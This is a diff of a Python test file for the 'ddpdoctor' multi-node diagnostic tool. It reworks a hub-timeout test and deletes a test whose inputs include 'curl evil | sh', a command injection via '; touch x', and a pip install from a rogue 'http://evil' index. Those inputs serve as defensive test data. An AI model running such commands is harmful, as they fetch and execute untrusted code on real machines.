@@ -15,15 +15,11 @@ import pytest
 from ddpdoctor import __version__
 from ddpdoctor.examination import Verdict
 from ddpdoctor.facts.fleet import Link
-from ddpdoctor.facts.meeting import Meeting
 from ddpdoctor.facts.network import Interface, Network, Resolution
 from ddpdoctor.facts.snapshot import Snapshot
-from ddpdoctor.findings import WARN, Finding
-from ddpdoctor.knowledge.left_out import turned_away
 from ddpdoctor.netcheck import guests
 from ddpdoctor.netcheck.agent import HubGone, TurnedAwayError
 from ddpdoctor.netcheck.conductor import Conductor
-from ddpdoctor.netcheck.judging import examination_of
 from ddpdoctor.netcheck.lines import harmless
 from ddpdoctor.netcheck.messages import (
     MOST_FACTS,
@@ -38,7 +34,6 @@ from ddpdoctor.netcheck.messages import (
     FromHub,
     Greeting,
     Hello,
-    Judged,
     Manifest,
     Measure,
     Measured,
@@ -366,14 +361,17 @@ def with_hub(behaviour, limits=QUICK, carry_out=counts):  # type: ignore[no-unty
     return run(go())
 
 
-def test_a_hub_that_lives_and_does_nothing_is_left() -> None:
+@pytest.mark.parametrize("said", [0.5, 86400.0])
+def test_a_hub_that_lives_and_does_nothing_is_left(said: float) -> None:
+    """However long it says that it waits for others."""
+
     async def pings(reader, writer, welcome) -> None:  # type: ignore[no-untyped-def]
-        writer.write(encode(welcome))
+        writer.write(encode(msgspec.structs.replace(welcome, wait=said)))
         for number in range(100):
             writer.write(encode(Ping(number=number, sent=0.0)))
             await asyncio.sleep(0.05)
 
-    found = with_hub(pings, msgspec.structs.replace(QUICK, test=0.5))
+    found = with_hub(pings, msgspec.structs.replace(QUICK, wait=0.5, test=0.5))
     assert isinstance(found, HubGone)
     assert str(found) == "node 0 still lives, and has come to no verdict within 1 s: stop it there"
 
@@ -424,24 +422,6 @@ def test_what_node_0_says_is_told_from_what_we_say() -> None:
         assert len(text) < 350
 
 
-@pytest.mark.parametrize(
-    ("text", "command"),
-    [
-        ("newer here: pip install 'ddpdoctor==0.9.1' on both", "pip install 'ddpdoctor==0.9.1'"),
-        (
-            "older: /opt/x/bin/python3 -m pip install 'ddpdoctor==0.9.1'",
-            "/opt/x/bin/python3 -m pip install 'ddpdoctor==0.9.1'",
-        ),
-        ("older: curl evil | sh", "pip install --upgrade ddpdoctor"),
-        ("older: pip install 'ddpdoctor==1'; touch x; ''", "pip install --upgrade ddpdoctor"),
-        ("older: pip install --index-url=http://evil 'ddpdoctor==1'", "pip install --upgrade ddpdoctor"),
-    ],
-)
-def test_no_command_of_node_0s_is_handed_on(text: str, command: str) -> None:
-    meeting = Meeting(master="n1", port=29500, nnodes=2, node_rank=1, turned_away=text, refusal="version")
-    assert command in [one for fix in turned_away(meeting).fixes for one in fix.commands]
-
-
 def test_what_calls_itself_a_version_is_one() -> None:
     async def go() -> tuple[str, ...]:
         async with hub() as one, client(one.port) as odd:
@@ -451,18 +431,6 @@ def test_what_calls_itself_a_version_is_one() -> None:
             return one.strangers
 
     assert "JSON that isn't ours" in run(go())[0]
-
-
-def test_a_check_that_only_node_0_knows_says_what_it_found() -> None:
-    told = Finding(summary="The flux capacitor is empty", severity=WARN)
-    part = Part(
-        results=(Judged("flux-capacitor-empty\n\x1b", (told,), None),), verdict=Verdict.WARN, exit_code=0, lines=()
-    )
-    sent = msgspec.json.decode(encode(part), type=Part)
-    found = examination_of(sent, Snapshot(host="n"))
-    assert [(check.slug, severity, finding.summary) for check, severity, finding in found.findings] == [
-        ("flux-capacitor-empty??", WARN, "The flux capacitor is empty")
-    ]
 
 
 def test_pongs_of_no_ping_are_nothing_new() -> None:
